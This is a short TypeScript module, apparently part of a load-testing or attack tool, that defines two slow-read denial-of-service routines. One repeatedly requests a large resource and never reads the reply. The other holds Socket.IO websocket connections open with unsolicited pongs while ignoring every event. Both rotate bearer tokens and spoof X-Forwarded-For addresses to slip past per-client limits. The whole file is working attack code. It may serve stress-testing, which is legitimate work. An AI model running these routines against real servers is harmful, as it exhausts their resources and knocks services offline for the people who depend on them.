import { type Attack, each, from, pause } from "./attack.ts";
import { close, frame, head, open, openSocket, write } from "./wire.ts";

/** Asks for something large, again and again, and reads nothing of it. */
export const unreadResponses: Attack = async (order, off, begun) => {
  const { url, count, tokens = [], path = "/", again } = order;
  const result = { asked: 0, cut: 0 };
  await each(count, begun, async (i, begun) => {
    const request = head(url, `GET ${path}`, {
      Authorization: `Bearer ${tokens[i % tokens.length]}`,
      "X-Forwarded-For": from.v4(i % tokens.length),
    });
    do {
      const connection = await open(url).catch(() => undefined);
      if (connection) {
        await write(connection, request).catch(() => {});
        result.asked++;
        begun();
        if (await cutOff(connection, "\r\n", off)) result.cut++;
        close(connection);
      }
      await pause(500, off);
    } while (again && !off.aborted);
  });
  return result;
};

/** Connects, and reads none of the events. */
export const unreadSockets: Attack = async (order, off, begun) => {
  const { url, count, tokens = [], again } = order;
  const result = { connected: 0, refused: 0, cut: 0, slowest: 0 };
  await each(count, begun, async (i, begun) => {
    const token = tokens[i % tokens.length];
    do {
      const opened = await openSocket(url, { token, address: from.v4(i) }).catch(() => undefined);
      const isIn = /40\{"sid/.test(opened?.response ?? "");
      if (isIn) result.connected++;
      else result.refused++;
      begun();
      const began = performance.now();
      // Unsolicited pongs, so that the server doesn't consider it dead.
      if (isIn && await cutOff(opened!.connection, frame("3"), off)) {
        result.cut++;
        result.slowest = Math.max(result.slowest, (performance.now() - began) / 1000);
      }
      close(opened?.connection);
      await pause(1000, off);
    } while (again && !off.aborted);
  });
  return result;
};

/**
 * Resolves to true if the other side closed it before `off`: a client that doesn't read notices
 * when it writes.
 */
async function cutOff(
  connection: Deno.Conn,
  sign: string | Uint8Array,
  off: AbortSignal,
): Promise<boolean> {
  while (!off.aborted) {
    await pause(500, off);
    try {
      await write(connection, sign);
    } catch {
      return true;
    }
  }
  return false;
}
